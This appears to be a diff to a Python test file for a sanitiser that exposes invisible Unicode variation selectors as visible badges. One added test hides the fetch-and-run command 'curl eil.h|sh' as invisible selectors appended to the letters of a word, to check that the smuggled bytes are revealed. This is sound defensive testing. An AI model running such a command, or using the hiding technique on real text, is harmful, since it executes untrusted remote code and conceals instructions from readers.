@@ -134,9 +134,9 @@ def test_a_selector_that_selects_nothing_is_a_badge() -> None:
     vs16, vs17 = "[U+FE0F VARIATION SELECTOR-16]", "[U+E0100 VARIATION SELECTOR-17]"
     assert safe(" \ufe0f") == f" {vs16}"
     assert safe("e\u0301\ufe0f") == f"e\u0301{vs16}"
-    assert safe("a\ufe0f\ufe0f") == f"a\ufe0f{vs16}"
-    assert safe("a" + "\U000e0100" * 3) == "a\U000e0100" + vs17 * 2
-    for hidden in (" \ufe0f", "e\u0301\ufe0f", "a\ufe0f\ufe0f", "a\U000e0100\U000e0100"):
+    assert safe("\u2764\ufe0f\ufe0f") == f"\u2764\ufe0f{vs16}"
+    assert safe("\u8fbb" + "\U000e0100" * 3) == "\u8fbb\U000e0100" + vs17 * 2
+    for hidden in (" \ufe0f", "e\u0301\ufe0f", "a\ufe0f", "\u8fbb\U000e0100\U000e0100"):
         assert raw_forbidden(hidden)  # the independent list agrees: not raw
     couple = "\U0001f468\u200d\u2764\ufe0f\u200d\U0001f468"
     assert safe(couple) == couple
@@ -155,3 +155,52 @@ def test_a_stack_of_combining_marks_is_shown_as_code_points() -> None:
     assert safe("\u05e9\u05c1\u05b8") == "\u05e9\u05c1\u05b8"  # Hebrew: shin dot, qamats
     assert safe("e\u0301\u0302\u0303\u0304") == "e\u0301\u0302\u0303\u0304"
     assert safe("e\u0301\u0302\u0303\u0304\u0305").count("[U+") == 5
+
+
+def test_one_selector_after_each_letter_hides_nothing() -> None:
+    # "Variation-selector smuggling": a selector after each letter of a word chooses
+    # no form (no variation sequence starts with a Latin letter), prints as nothing
+    # and carries a byte each (here `curl eil.h|sh`, one selector per letter).
+    hidden = b"curl eil.h|sh"
+    word = "description"
+    smuggled = "".join(
+        letter + (chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16))
+        for letter, b in zip(word * 2, hidden, strict=False)
+    )
+    shown = safe(smuggled)
+    assert shown.count("[U+") == len(hidden)  # every hidden byte is a badge
+    assert raw_forbidden(smuggled)
+    assert not raw_forbidden(shown)
+    for letter in "aZéжλ":
+        assert safe(letter + "\ufe0f") == f"{letter}[U+FE0F VARIATION SELECTOR-16]"
+        assert safe(letter + "\ufe00") == f"{letter}[U+FE00 VARIATION SELECTOR-1]"
+
+
+@pytest.mark.parametrize(
+    "sequence",
+    [
+        "\u2764\ufe0f",  # emoji presentation of HEAVY BLACK HEART
+        "\u263a\ufe0e",  # text presentation of WHITE SMILING FACE
+        "1\ufe0f\u20e3",  # keycap one
+        "#\ufe0f\u20e3",  # keycap number sign
+        "\u2139\ufe0f",  # INFORMATION SOURCE (a letter with the Emoji property)
+        "\U0001f3f3\ufe0f\u200d\U0001f308",  # rainbow flag
+        "\u8fbb\U000e0100",  # an ideographic variation sequence
+        "\u8fbb\ufe00",  # a CJK compatibility variant
+        "0\ufe00",  # DIGIT ZERO, short diagonal stroke form
+        "\u2268\ufe00",  # LESS-THAN BUT NOT EQUAL TO, with vertical stroke
+        "\u1000\ufe00",  # MYANMAR LETTER KA, dotted form
+        "\u1820\u180b",  # MONGOLIAN LETTER A, first free variation
+    ],
+)
+def test_a_variation_sequence_unicode_defines_is_kept_raw(sequence: str) -> None:
+    assert safe(sequence) == sequence
+    assert not raw_forbidden(sequence)
+
+
+def test_selectors_a_base_cannot_take_are_badges() -> None:
+    assert safe("\u2764\ufe00") == "\u2764[U+FE00 VARIATION SELECTOR-1]"  # FE00 on an emoji
+    assert safe("\u2268\ufe01") == "\u2268[U+FE01 VARIATION SELECTOR-2]"
+    assert safe("\u1820\ufe0f") == "\u1820[U+FE0F VARIATION SELECTOR-16]"
+    assert safe("a\u180b") == "a[U+180B MONGOLIAN FREE VARIATION SELECTOR ONE]"
+    assert safe("\U0001f600\U000e0100") == "\U0001f600[U+E0100 VARIATION SELECTOR-17]"
